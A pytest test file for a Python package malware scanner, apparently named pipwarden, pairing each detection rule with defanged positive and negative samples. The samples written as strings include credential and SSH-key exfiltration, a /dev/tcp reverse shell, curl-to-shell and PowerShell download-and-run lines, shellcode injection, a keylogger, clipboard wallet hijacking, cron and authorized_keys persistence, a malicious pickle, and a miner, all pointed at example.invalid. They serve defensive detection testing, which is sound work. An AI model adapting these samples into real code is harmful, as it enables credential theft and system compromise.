"""Each rule: one positive and one negative sample (defanged: example.invalid, inert)."""

from __future__ import annotations

import base64
import codecs
import marshal
import zlib
from pathlib import Path

import pytest

from pipwarden.scan import patterns as P
from pipwarden.scan import scan_target
from pipwarden.scan.engine import FileContext, analyse_member
from pipwarden.scan.rules import CATALOGUE
from tests.support.builders import build_sdist, build_wheel

INERT = "print('inert sample')"
B64 = base64.b64encode(INERT.encode()).decode()
HEX = INERT.encode().hex()
ZLIB = zlib.compress(INERT.encode())
ROT = codecs.encode(INERT, "rot13")
URL = "https://example.invalid/x"
ELF_B64 = base64.b64encode(b"\x7fELF" + bytes(60)).decode()


def _zip(files: dict[str, str]) -> bytes:
    import io
    import zipfile

    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        for name, text in files.items():
            z.writestr(name, text)
    return buf.getvalue()


_NOISY = "".join(c for c in map(chr, range(33, 127)) if c not in "'\"\\")


def rules_of(source: str | bytes, name: str = "pkg/mod.py", kind: str = "wheel") -> set[str]:
    data = source.encode() if isinstance(source, str) else source
    return {f.rule for f in analyse_member(FileContext(name, kind, kind == "wheel"), data)}


# (rule, positive, negative, member name, target kind)
CASES: list[tuple[str, str | bytes, str | bytes, str, str]] = [
    (
        "install-hook.network",
        f"import urllib.request\nurllib.request.urlopen({URL!r})\nsetup(name='x')\n",
        "from setuptools import setup\nsetup(name='x')\n",
        "p-1/setup.py",
        "sdist",
    ),
    (
        "install-hook.process",
        "import subprocess\nsubprocess.call(['make'])\n",
        "import subprocess\ndef build():\n    subprocess.call(['make'])\n",
        "p-1/setup.py",
        "sdist",
    ),
    (
        "install-hook.cmdclass",
        "from setuptools import setup\nfrom setuptools.command.build_py import build_py\n"
        "class B(build_py):\n    def run(self):\n        build_py.run(self)\n"
        "setup(name='x', cmdclass={'build_py': B})\n",
        "from setuptools import setup\nclass B:\n    pass\nsetup(name='x')\n",
        "p-1/setup.py",
        "sdist",
    ),
    (
        "install-hook.cmdclass-payload",
        "import urllib.request\nfrom setuptools import setup\n"
        "from setuptools.command.install import install\n"
        "class I(install):\n    def run(self):\n"
        f"        urllib.request.urlopen({URL!r})\n        install.run(self)\n"
        "setup(name='x', cmdclass={'install': I})\n",
        "from setuptools import setup\nfrom setuptools.command.install import install\n"
        "class I(install):\n    def run(self):\n        install.run(self)\n"
        "setup(name='x', cmdclass={'install': I})\n",
        "p-1/setup.py",
        "sdist",
    ),
    (
        "install-hook.in-tree-backend",
        '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n',
        '[build-system]\nrequires = ["hatchling"]\nbuild-backend = "hatchling.build"\n',
        "p-1/pyproject.toml",
        "sdist",
    ),
    (
        "startup-hook.pth-exec",
        "import os; os.environ.setdefault('X', '1')\n",
        "/opt/extra/lib\n",
        "extra.pth",
        "wheel",
    ),
    (
        "startup-hook.pth-payload",
        "import os; os.system('id')\n",
        "import os; os.environ.setdefault('X', '1')\n",
        "extra.pth",
        "wheel",
    ),
    ("startup-hook.sitecustomize", "x = 1\n", "x = 1\n", "sitecustomize.py", "wheel"),
    (
        "startup-hook.sitecustomize-payload",
        f"import urllib.request\ndef beacon():\n    urllib.request.urlopen({URL!r})\n",
        "import sys\nsys.dont_write_bytecode = True\n",
        "sitecustomize.py",
        "wheel",
    ),
    (
        "binary-dropper.run-shipped",
        "import os, subprocess\n"
        "subprocess.Popen([os.path.join(os.path.dirname(__file__), 'bin', 'helper')])\n",
        "import os, subprocess\n"
        "subprocess.call(['git', '-C', os.path.dirname(__file__), 'describe'])\n",
        "pkg/__init__.py",
        "wheel",
    ),
    (
        "binary-dropper.embedded",
        f"import base64\nBIN = base64.b64decode({ELF_B64!r})\n",
        f"import base64\nICON = base64.b64decode({base64.b64encode(b'GIF89a' + bytes(60)).decode()!r})\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "startup-hook.import-network",
        f"import urllib.request\nurllib.request.urlopen({URL!r})\n",
        f"import urllib.request\ndef f():\n    return urllib.request.urlopen({URL!r})\n",
        "pkg/__init__.py",
        "wheel",
    ),
    (
        "startup-hook.import-process",
        "import subprocess\nsubprocess.run(['id'])\n",
        "import subprocess\nif __name__ == '__main__':\n    subprocess.run(['id'])\n",
        "pkg/__init__.py",
        "wheel",
    ),
    (
        "obfuscation.exec-decoded",
        f"import base64\nexec(base64.b64decode({B64!r}))\n",
        "exec(compile(open('version.py').read(), 'version.py', 'exec'))\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "obfuscation.marshal-literal",
        f"import marshal\nc = marshal.loads({marshal.dumps(compile(INERT, 'x', 'exec'))!r})\n",
        "import marshal\ndef load(f):\n    return marshal.loads(f.read())\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "obfuscation.hidden-name",
        "f = getattr(__builtins__, 'ex' + 'ec')\n",
        "f = getattr(obj, 'name')\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "obfuscation.builtin-alias",
        "from builtins import *\nRun, Text, Many, Walk = exec, str, tuple, map\n",
        "x, y, z = str, int, float\nrun = exec\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "obfuscation.encoded-blob",
        f"BLOB = {base64.b64encode(bytes(range(256)) * 2).decode()!r}\n",
        f"NAME = {'abcdefgh_' * 40!r}\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "obfuscation.high-entropy",
        "K = '" + "".join(_NOISY[(i * 37) % len(_NOISY)] for i in range(300)) + "'\n",
        "K = '" + "ab" * 200 + "'\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "download-execute.remote-code",
        f"from urllib.request import urlopen\nexec(urlopen({URL!r}).read())\n",
        f"import json\nfrom urllib.request import urlopen\ndata = json.loads(urlopen({URL!r}).read())\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "download-execute.remote-command",
        "import os\nos.system('curl -s https://example.invalid/i.sh | sh')\n",
        "import os\nos.system('git status')\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "download-execute.drop-and-run",
        "import os, urllib.request\ndef go():\n"
        f"    urllib.request.urlretrieve({URL!r}, '/tmp/x')\n    os.system('/tmp/x')\n",
        f"import urllib.request\ndef go():\n    urllib.request.urlretrieve({URL!r}, '/tmp/x')\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "exfiltration.credentials",
        "import os, requests\ndef f():\n"
        "    key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        f"    requests.post({URL!r}, data=key)\n",
        "import requests\ndef f():\n    cfg = open('config.json').read()\n"
        f"    requests.post({URL!r}, data=cfg)\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "exfiltration.host-info",
        f"import socket, requests\ndef f():\n    requests.post({URL!r}, data={{'h': socket.gethostname()}})\n",
        f"import requests\ndef f():\n    requests.post({URL!r}, data={{'a': 1}})\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "exfiltration.wallet-secret",
        "import requests\ndef check_wallet(private_key):\n"
        f"    requests.post({URL!r}, json={{'k': private_key}})\n",
        "import requests\nfrom eth_account import Account\ndef send(private_key, tx, rpc):\n"
        "    signed = Account.sign_transaction(tx, private_key)\n"
        f"    requests.post({URL!r}, json={{'params': [signed.raw_transaction.hex()]}})\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "exfiltration.cloud-keys",
        "import requests\nclass Credentials:\n"
        "    def __init__(self, access_key_id, access_key_secret):\n"
        f"        requests.post({URL!r}, json={{'ak': access_key_id, 'sk': access_key_secret}})\n",
        "import hmac, requests\ndef call(access_key_id, access_key_secret, body):\n"
        "    sig = hmac.new(access_key_secret.encode(), body, 'sha256').hexdigest()\n"
        f"    requests.post({URL!r}, data=body, headers={{'Signature': sig}})\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "exfiltration.found-files",
        "import os, requests\ndef f():\n    d = os.path.expanduser('~/chat')\n"
        "    for n in os.listdir(d):\n        if n.endswith('.session'):\n"
        f"            requests.post({URL!r}, files={{'f': open(os.path.join(d, n), 'rb')}})\n",
        "import os, requests\ndef f(folder):\n    for n in os.listdir(folder):\n"
        f"        requests.post({URL!r}, files={{'f': open(os.path.join(folder, n), 'rb')}})\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "exfiltration.credential-access",
        "import os\ndef f():\n    return open(os.path.expanduser('~/.aws/credentials')).read()\n",
        "def f():\n    return open('settings.ini').read()\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "exfiltration.browser-data",
        "import os\ndef f(base):\n"
        "    return open(os.path.join(base, 'Google/Chrome/User Data/Default/Login Data'), 'rb')\n",
        "def f():\n    return open('data.db', 'rb')\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "reverse-shell.socket-shell",
        "import socket, os, pty\ndef f():\n    s = socket.socket()\n"
        "    s.connect(('example.invalid', 4444))\n    os.dup2(s.fileno(), 0)\n    pty.spawn('/bin/sh')\n",
        "import socket\ndef f():\n    s = socket.socket()\n"
        "    s.connect(('example.invalid', 80))\n    s.sendall(b'ping')\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "reverse-shell.command",
        "import os\nos.system('bash -i >& /dev/tcp/example.invalid/4444 0>&1')\n",
        "import os\nos.system(\"bash -c 'echo hi'\")\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "persistence.autostart",
        "def f():\n    open('/etc/cron.d/job', 'w').write('* * * * * true\\n')\n",
        "def f():\n    return open('/etc/hosts').read()\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "binary-dropper.shellcode",
        "import ctypes, base64\nbuf = base64.b64decode('kJCQkA==')\nk = ctypes.windll.kernel32\n"
        "p = k.VirtualAlloc(0, len(buf), 0x3000, 0x40)\nctypes.memmove(p, buf, len(buf))\n"
        "k.CreateThread(0, 0, p, 0, 0, 0)\n",
        # A callback type alone is everyday ctypes.
        "import ctypes\nCALLBACK = ctypes.CFUNCTYPE(None, ctypes.c_int)\n"
        "def register(lib, fn):\n    lib.set_cb(CALLBACK(fn))\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "persistence.access",
        "import os\np = os.path.expanduser('~/.ssh/authorized_keys')\nwith open(p, 'a') as fh:\n"
        "    fh.write('ssh-ed25519 AAAAdefanged x@example.invalid')\n",
        "import os\ndef keys():\n"
        "    return open(os.path.expanduser('~/.ssh/authorized_keys')).read()\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "startup-hook.writes-startup",
        "import os, site\n"
        "open(os.path.join(site.getsitepackages()[0], 'zz.pth'), 'w').write('import sys')\n",
        # A PyTorch checkpoint is a .pth too; only site-packages makes it a start-up file.
        "import os\ndef save(cache, data):\n"
        "    open(os.path.join(cache, 'resnet18.pth'), 'wb').write(data)\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "exfiltration.surveillance",
        "import requests\nfrom pynput import keyboard\nkeys = []\n"
        "def on_press(k):\n    keys.append(str(k))\n"
        "def flush():\n    requests.post('https://example.invalid/k', data=''.join(keys))\n"
        "keyboard.Listener(on_press=on_press).start()\n",
        "from pynput import keyboard\ndef hotkeys(cb):\n"
        "    return keyboard.Listener(on_press=cb)\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "persistence.shell-rc",
        "import os\ndef f():\n    with open(os.path.expanduser('~/.bashrc'), 'a') as fh:\n"
        "        fh.write('alias ll=ls\\n')\n",
        "import os\ndef f():\n    return open(os.path.expanduser('~/.bashrc')).read()\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "persistence.payload",
        "import base64\ndef f():\n    with open('/etc/cron.d/job', 'wb') as fh:\n"
        f"        fh.write(base64.b64decode({B64!r}))\n",
        "def f():\n    with open('/etc/cron.d/job', 'w') as fh:\n        fh.write('* * * * * true')\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "hidden-process.detached",
        "import subprocess\ndef f(cmd):\n"
        "    subprocess.Popen(cmd, creationflags=subprocess.CREATE_NO_WINDOW)\n",
        "import subprocess\ndef f(cmd):\n    subprocess.Popen(cmd)\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "suspicious-endpoint.paste-site",
        "U = 'https://pastebin.com/raw/abc'\n",
        f"U = {URL!r}\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "suspicious-endpoint.webhook",
        "U = 'https://discord.com/api/webhooks/1/abc'\n",
        "U = 'https://discord.com/developers/docs'\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "suspicious-endpoint.tunnel",
        "U = 'https://abc123.ngrok.io/collect'\n",
        "U = 'https://docs.example.invalid/tunnels'\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "suspicious-endpoint.dynamic-dns",
        "U = 'http://evil.duckdns.org/x'\n",
        "U = 'http://ducks.example.invalid/x'\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "suspicious-endpoint.raw-ip",
        "U = 'http://8.8.4.4/payload'\n",
        "U = 'http://127.0.0.1:8000/ and http://10.0.0.1/'\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "suspicious-endpoint.contacted",
        "import requests\ndef f():\n    requests.get('https://abc.ngrok.io/a')\n",
        "def f():\n    print('https://abc.ngrok.io/a')\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "clipboard.read",
        "import pyperclip\ndef f():\n    return pyperclip.paste()\n",
        "import pyperclip\ndef f():\n    pyperclip.copy('x')\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "clipboard.wallet-hijack",
        "import re, pyperclip\nBTC = re.compile(r'^(bc1|[13])[a-km-zA-HJ-NP-Z1-9]{25,39}$')\n"
        "def f():\n    text = pyperclip.paste()\n    if BTC.match(text):\n"
        "        pyperclip.copy('bc1-attacker-address-placeholder')\n",
        "import pyperclip\ndef f():\n    text = pyperclip.paste()\n    pyperclip.copy(text.upper())\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "clipboard.wallet-files",
        "import os\ndef f(home):\n    return open(os.path.join(home, '.bitcoin', 'wallet.dat'), 'rb')\n",
        "def f():\n    return open('wall.txt', 'rb')\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "unsafe-deserialization.malicious-file",
        # A protocol-0 pickle that calls os.system('echo inert') when loaded (never loaded here).
        b"cos\nsystem\n(S'echo inert'\ntR.",
        b"(dp0\nS'weights'\np1\n(lp2\nI1\naI2\nas.",
        "pkg/model.pkl",
        "wheel",
    ),
    (
        "obfuscation.bytecode-only",
        "import importlib.machinery, os\n"
        "_l = importlib.machinery.SourcelessFileLoader('p.x', os.path.join("
        "os.path.dirname(__file__), 'x.pyc'))\n",
        "import importlib.machinery\n"
        "def load(name, path):\n"
        "    return importlib.machinery.SourcelessFileLoader(name, path)\n",
        "pkg/__init__.py",
        "wheel",
    ),
    (
        "download-execute.direct-url-dependency",
        '[project]\nname = "x"\ndependencies = ["helper @ https://files.example.invalid/h.tar.gz"]\n',
        '[project]\nname = "x"\ndependencies = ["helper>=1", "other[extra]; python_version<\'3.12\'"]\n',
        "x-1/pyproject.toml",
        "sdist",
    ),
    (
        "download-execute.runtime-install",
        "import subprocess, sys\nsubprocess.call([sys.executable, '-m', 'pip', 'install', "
        "'git+https://git.example.invalid/x.git'])\n",
        "import subprocess, sys\ndef install_extra(name):\n"
        "    subprocess.call([sys.executable, '-m', 'pip', 'install', name])\n",
        "pkg/__init__.py",
        "wheel",
    ),
    (
        "hidden-process.masquerade",
        "import multiprocessing\ndef work():\n    pass\n"
        "multiprocessing.Process(target=work, name='kworker/0:2').start()\n",
        "import multiprocessing\ndef work():\n    pass\n"
        "multiprocessing.Process(target=work, name='worker-1').start()\n",
        "pkg/__init__.py",
        "wheel",
    ),
    (
        "hidden-process.miner",
        "import subprocess\ndef f():\n    subprocess.Popen(['./xmrig', '-o', "
        "'stratum+tcp://pool.example.invalid:3333'])\n",
        "import subprocess\ndef f():\n    subprocess.Popen(['./server', '-o', 'out.log'])\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "suspicious-endpoint.hidden",
        "import base64, requests\n"
        "def f(data):\n    requests.post(base64.b64decode('aHR0cHM6Ly9leGFtcGxlLmludmFsaWQv'), data=data)\n",
        "import requests\ndef f(data):\n    requests.post('https://api.example.invalid/v1', data=data)\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "exfiltration.function-hook",
        "import requests, urllib.request\n_orig = requests.Session.request\n"
        "def _request(self, method, url, **kw):\n"
        "    urllib.request.urlopen('https://c.example.invalid/?u=' + url)\n"
        "    return _orig(self, method, url, **kw)\n"
        "requests.Session.request = _request\n",
        # An SDK hooking on the user's init() call, not on import.
        "import sys, urllib.request\ndef init(dsn):\n    def hook(tp, val, tb):\n"
        "        urllib.request.urlopen(dsn)\n    sys.excepthook = hook\n",
        "pkg/__init__.py",
        "wheel",
    ),
    (
        "reverse-shell.remote-control",
        "import subprocess, requests\n"
        "class Agent:\n"
        "    def __init__(self):\n        self.s = requests.Session()\n"
        "    def run(self):\n"
        "        task = self.s.get('https://c2.example.invalid/task').json()\n"
        "        handlers = {'x': self.do}\n"
        "        handlers[task['k']](task)\n"
        "    def do(self, task):\n"
        "        subprocess.run(['uname'])\n"
        "import threading\nthreading.Thread(target=Agent().run).start()\n",
        # The same client used only when the application asks.
        "import subprocess, requests\n"
        "class Agent:\n"
        "    def __init__(self):\n        self.s = requests.Session()\n"
        "    def run(self):\n"
        "        task = self.s.get('https://api.example.invalid/task').json()\n"
        "        subprocess.run(['uname'])\n",
        "pkg/__init__.py",
        "wheel",
    ),
    (
        "persistence.package-index",
        "import os\np = os.path.expanduser('~/.config/pip/pip.conf')\n"
        "with open(p, 'a') as f:\n    f.write('[global]\\nextra-index-url = https://example.invalid/simple\\n')\n",
        "import os\np = os.path.expanduser('~/.config/pip/pip.conf')\nwith open(p) as f:\n    f.read()\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "persistence.command-shadow",
        "[console_scripts]\ngit = gitx.cli:main\n",
        "[console_scripts]\ngitx = gitx.cli:main\n",
        "gitx-1.0.dist-info/entry_points.txt",
        "wheel",
    ),
    (
        "obfuscation.hidden-archive",
        _zip(
            {
                "hidden/__init__.py": "import os\nos.system('curl -s https://example.invalid/x | sh')\n"
            }
        ),
        _zip({"fr/messages.json": '{"hello": "bonjour"}'}),
        "pkg/locale.dat",
        "wheel",
    ),
    (
        "obfuscation.custom-codec",
        "# -*- coding: utf8_compat -*-\nvzcbeg bf\n",
        "# -*- coding: latin-1 -*-\nimport os\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "unsafe-deserialization.pickle",
        "import pickle\ndef f(data):\n    return pickle.loads(data)\n",
        "import json\ndef f(data):\n    return json.loads(data)\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "unsafe-deserialization.yaml",
        "import yaml\ndef f(s):\n    return yaml.load(s)\n",
        "import yaml\ndef f(s):\n    return yaml.load(s, Loader=yaml.SafeLoader), yaml.safe_load(s)\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        "unsafe-deserialization.remote",
        f"import pickle, requests\ndef f():\n    return pickle.loads(requests.get({URL!r}).content)\n",
        "import pickle\ndef f():\n    return pickle.loads(open('cache.pkl', 'rb').read())\n",
        "pkg/mod.py",
        "wheel",
    ),
    ("parse.not-parsed", "print 'hello'\n", "print('hello')\n", "pkg/mod.py", "wheel"),
    (
        "parse.too-deep",
        "x = " + "(" * 10000 + "1" + ")" * 10000 + "\n",
        "x = " + "(" * 20 + "1" + ")" * 20 + "\n",
        "pkg/mod.py",
        "wheel",
    ),
    (
        # 630,000 tokens in 840 KB; the negative is larger (1.1 MB) but has 100,000 tokens.
        "parse.too-large",
        "x=1\n" * 210_000,
        ("x = '" + "a" * 50 + "'\n") * 20_000,
        "pkg/mod.py",
        "wheel",
    ),
]


@pytest.mark.parametrize(("rule", "pos", "neg", "name", "kind"), CASES, ids=[c[0] for c in CASES])
def test_rule_positive_and_negative(rule: str, pos: str, neg: str, name: str, kind: str) -> None:
    if rule == "startup-hook.sitecustomize":
        assert rule in rules_of(pos, name, kind)
        assert rule not in rules_of(neg, "pkg/site_utils.py", kind)
        return
    assert rule in rules_of(pos, name, kind)
    assert rule not in rules_of(neg, name, kind)


def test_every_code_rule_has_a_case() -> None:
    covered = {c[0] for c in CASES} | {
        "binary-dropper.native-in-pure-wheel",
        "binary-dropper.executable",
        "model.malware-likely",  # tests/test_scan_model.py
    }
    code_rules = {r.id for r in CATALOGUE if not r.id.startswith("archive.")}
    assert code_rules - covered == set()


ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 64


def test_binary_dropper_in_pure_wheel(tmp_path: Path) -> None:
    name, data = build_wheel(
        "demo", "1.0", {"demo/__init__.py": "", "demo/helper": ELF, "demo/logo.png": ELF}
    )
    path = tmp_path / name
    path.write_bytes(data)
    result = scan_target(path)
    sev = {f.file: f.severity.label for f in result.findings if f.rule.startswith("binary-dropper")}
    # A binary under its own name is worth a look; one disguised as data is suspicious.
    assert sev == {"demo/helper": "medium", "demo/logo.png": "high"}
    assert result.verdict == "suspicious"
    name, data = build_wheel(
        "demo", "1.0", {"demo/_ext.so": ELF}, tag="cp311-cp311-manylinux_2_17_x86_64"
    )
    path = tmp_path / name
    path.write_bytes(data)
    assert not {f.rule for f in scan_target(path).findings}


def test_binary_dropper_in_sdist(tmp_path: Path) -> None:
    pe = b"MZ" + b"\0" * 58 + b"\x80\0\0\0" + b"\0" * 64 + b"PE\0\0" + b"\0" * 32
    name, data = build_sdist(
        "demo", "1.0", {"demo/tool.exe": pe, "demo/readme.txt": "MZ is a letter pair"}
    )
    path = tmp_path / name
    path.write_bytes(data)
    found = [(f.rule, f.file) for f in scan_target(path).findings]
    assert ("binary-dropper.executable", "demo-1.0/demo/tool.exe") in found
    assert all(f != "demo-1.0/demo/readme.txt" for _, f in found)


# ------------------------------------------------------------------ folding


@pytest.mark.parametrize(
    "expr",
    [
        f"base64.b64decode({B64!r})",
        f"base64.b64decode({B64.encode()!r})",
        f"bytes.fromhex({HEX!r})",
        f"binascii.unhexlify({HEX!r})",
        f"zlib.decompress({ZLIB!r})",
        f"codecs.decode({ROT!r}, 'rot13')",
        f"{INERT[::-1]!r}[::-1]",
        "''.join(chr(c) for c in [" + ",".join(str(ord(c)) for c in INERT) + "])",
        "''.join(map(chr, [" + ",".join(str(ord(c)) for c in INERT) + "]))",
        "+".join(f"chr({ord(c)})" for c in INERT),
        f"base64.b32decode({base64.b32encode(INERT.encode())!r})",
    ],
)
def test_folded_payloads_reaching_exec_are_critical(expr: str) -> None:
    src = f"import base64, binascii, zlib, codecs\nexec({expr})\n"
    assert "obfuscation.exec-decoded" in rules_of(src)


@pytest.mark.parametrize(
    "src",
    [
        "getattr(__builtins__, 'ex' + 'ec')(payload)",
        "getattr(__import__('built' + 'ins'), 'exec')(payload)",
        "__import__('o' + 's').system(cmd)",
        "__import__(''.join(['o', 's'])).system(cmd)",
        "getattr(__import__(bytes.fromhex('6f73').decode()), 'system')(cmd)",
    ],
)
def test_hidden_names_are_resolved(src: str) -> None:
    assert "obfuscation.hidden-name" in rules_of(src)


def test_folded_name_resolves_to_sink() -> None:
    src = f"import base64\nf = getattr(__builtins__, 'ex' + 'ec')\nf(base64.b64decode({B64!r}))\n"
    assert {"obfuscation.hidden-name", "obfuscation.exec-decoded"} <= rules_of(src)
    src = "import base64\n__import__('o'+'s').system(base64.b64decode('aWQ='))\n"
    assert "obfuscation.exec-decoded" in rules_of(src)


def test_dataflow_through_variables_and_fstrings() -> None:
    src = (
        "import os, json, urllib.request\n"
        "def f():\n"
        "    env = dict(os.environ)\n"
        "    body = json.dumps({'e': env}).encode()\n"
        f"    req = urllib.request.Request(f'{URL}', data=body)\n"
        "    urllib.request.urlopen(req)\n"
    )
    assert "exfiltration.credentials" in rules_of(src)
    # A single variable read from the environment is not a secret dump.
    benign = src.replace("dict(os.environ)", "os.environ.get('HOME')")
    assert "exfiltration.credentials" not in rules_of(benign)


def test_source_and_sink_in_different_functions_are_not_linked() -> None:
    src = (
        "import os, requests\n"
        "def read():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
        f"def send(x):\n    requests.post({URL!r}, data=x)\n"
    )
    found = rules_of(src)
    assert "exfiltration.credentials" not in found
    assert "exfiltration.credential-access" in found


def test_unparsed_files_still_get_byte_rules() -> None:
    src = f"print 'py2'\nexec(base64.b64decode('{B64}'))\nu = 'https://pastebin.com/raw/x'\n"
    found = rules_of(src)
    assert {
        "parse.not-parsed",
        "obfuscation.exec-decoded",
        "suspicious-endpoint.paste-site",
    } <= found


@pytest.mark.parametrize(
    "data",
    [
        b"x = 1\x00\n",
        b"x = '\xff\xfe invalid utf-8'\n",
        bytes(range(256)) * 4,
        b"x = " + b"-" * 10000 + b"1\n",
        b"x = " + b"not " * 10000 + b"1\n",
        b"x = 1" + b" + 1" * 20000 + b"\n",
        b"x = " + b"[" * 10000 + b"]" * 10000 + b"\n",
        "".join(" " * i + "if x:\n" for i in range(200)).encode() + b" " * 200 + b"pass\n",
    ],
    ids=[
        "nul",
        "utf8",
        "binary",
        "unary-deep",
        "not-deep",
        "long-chain",
        "list-deep",
        "indent-deep",
    ],
)
def test_hostile_sources_never_crash(data: bytes) -> None:
    findings = analyse_member(FileContext("pkg/mod.py", "wheel", True), data)
    assert all(f.file == "pkg/mod.py" for f in findings)


def test_long_addition_chain_is_analysed() -> None:
    src = "x = 1" + " + 1" * 20000 + f"\nimport base64\nexec(base64.b64decode({B64!r}))\n"
    assert "obfuscation.exec-decoded" in rules_of(src)


def test_docstrings_with_urls_are_not_endpoints() -> None:
    src = 'def f():\n    """See https://pastebin.com/raw/abc for details."""\n'
    assert rules_of(src) == set()


# ------------------------------------------------------------------ dataflow extras


def test_container_mutation_and_param_summaries_carry_secrets() -> None:
    src = (
        "import glob, os, requests\n_keys = {}\n"
        "for p in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n"
        "    with open(p) as fh:\n        _keys[p] = fh.read()\n"
        f"requests.post({URL!r}, json=_keys)\n"
    )
    assert "exfiltration.credentials" in rules_of(src)
    src = (
        "import socket\ndef _leak(data):\n    socket.gethostbyname(data.hex() + '.example.invalid')\n"
        "_leak(open('/home/u/.ssh/id_rsa', 'rb').read())\n"
    )
    assert "exfiltration.credentials" in rules_of(src)


def test_secret_env_vars_weigh_by_context() -> None:
    at_import = f"import os, requests\nrequests.post({URL!r}, data=os.environ.get('AWS_SECRET_ACCESS_KEY'))\n"
    found = analyse_member(FileContext("pkg/mod.py", "wheel", True), at_import.encode())
    assert any(
        f.rule == "exfiltration.credentials" and f.severity.label == "critical" for f in found
    )
    api_client = (
        "import os, httpx\ndef client():\n    token = os.environ.get('GITHUB_TOKEN')\n"
        "    return httpx.Client(headers={'Authorization': token})\n"
    )
    found = analyse_member(FileContext("pkg/mod.py", "wheel", True), api_client.encode())
    assert all(f.severity.label in ("medium", "low", "info") for f in found)


def test_lambda_inlining_and_decoded_payload_analysis() -> None:
    src = "_m = lambda n: __import__(n[::-1])\n_m('ssecorpbus').Popen(['id'])\n"
    assert {"obfuscation.hidden-name", "startup-hook.import-process"} <= rules_of(src)
    inner = "import os, json, urllib.request\nurllib.request.urlopen('https://x.example.invalid', data=json.dumps(dict(os.environ)).encode())\n"
    src = f"import base64\nP = base64.b64decode({base64.b64encode(inner.encode()).decode()!r})\n"
    assert "exfiltration.credentials" in rules_of(src)


@pytest.mark.parametrize(
    "cmd",
    [
        "['sh', '-c', 'wget -q -O /tmp/.u https://x.example.invalid/u && chmod +x /tmp/.u && /tmp/.u']",
        "'powershell -w hidden -c \"iwr https://x.example.invalid/a.exe -OutFile a.exe; Start-Process a.exe\"'",
        "['python', '-c', 'import urllib.request as u;exec(u.urlopen(\"https://x.example.invalid\").read())']",
    ],
)
def test_command_lines_that_download_and_run(cmd: str) -> None:
    found = rules_of(f"import subprocess\ndef f():\n    subprocess.Popen({cmd})\n")
    assert found & {"download-execute.remote-command", "download-execute.remote-code"}


def test_scripts_and_tests_have_no_import_time_findings() -> None:
    src = "import subprocess\nsubprocess.run(['id'])\n"
    assert "startup-hook.import-process" in rules_of(src, "pkg/mod.py")
    assert "startup-hook.import-process" not in rules_of(src, "pkg/__main__.py")
    assert "startup-hook.import-process" not in rules_of(src, "pkg/tests/test_x.py")
    assert "startup-hook.import-process" not in rules_of(src, "pkg/manual tests/x.py")
    assert "startup-hook.import-process" not in rules_of(
        "#!/usr/bin/env python3\n" + src, "tools/x.py"
    )
    # A package's __init__ is imported whatever its first line says.
    assert "startup-hook.import-process" in rules_of(
        "#!/usr/bin/env python3\n" + src, "pkg/__init__.py"
    )
    assert "startup-hook.import-process" in rules_of(src, "latest/mod.py")
    guarded = "import sys, pty\nif sys.platform != 'win32' and __name__ == '__main__':\n    pty.spawn(['sh'])\n"
    assert "startup-hook.import-process" not in rules_of(guarded)


def test_benign_subprocess_and_network_stay_quiet() -> None:
    src = (
        "import subprocess, requests\n"
        "def version():\n    return subprocess.check_output(['git', 'describe', '--tags']).decode()\n"
        "def fetch(url):\n    return requests.get(url, timeout=5).json()\n"
        "def run(cmd):\n    return subprocess.run(cmd, check=True)\n"
    )
    assert rules_of(src) == set()


XOR_SRC = "".join(f"\\x{c ^ 7:02x}" for c in INERT.encode())
MORE: dict[str, tuple[str, str]] = {
    "environ-as-string": (
        f"import os, requests\nrequests.post({URL!r}, data={{'e': str(os.environ)}})\n",
        "malicious",
    ),
    "shell-cat-key": (
        "import subprocess, requests\ndef f():\n"
        "    k = subprocess.check_output('cat ~/.ssh/id_rsa', shell=True)\n"
        f"    requests.post({URL!r}, data=k)\n",
        "malicious",
    ),
    "import-chain": (
        "getattr(__import__('importlib').import_module('o'+'s'), 'sys'+'tem')('id')\n",
        "suspicious",
    ),
    "dunder-imports": (
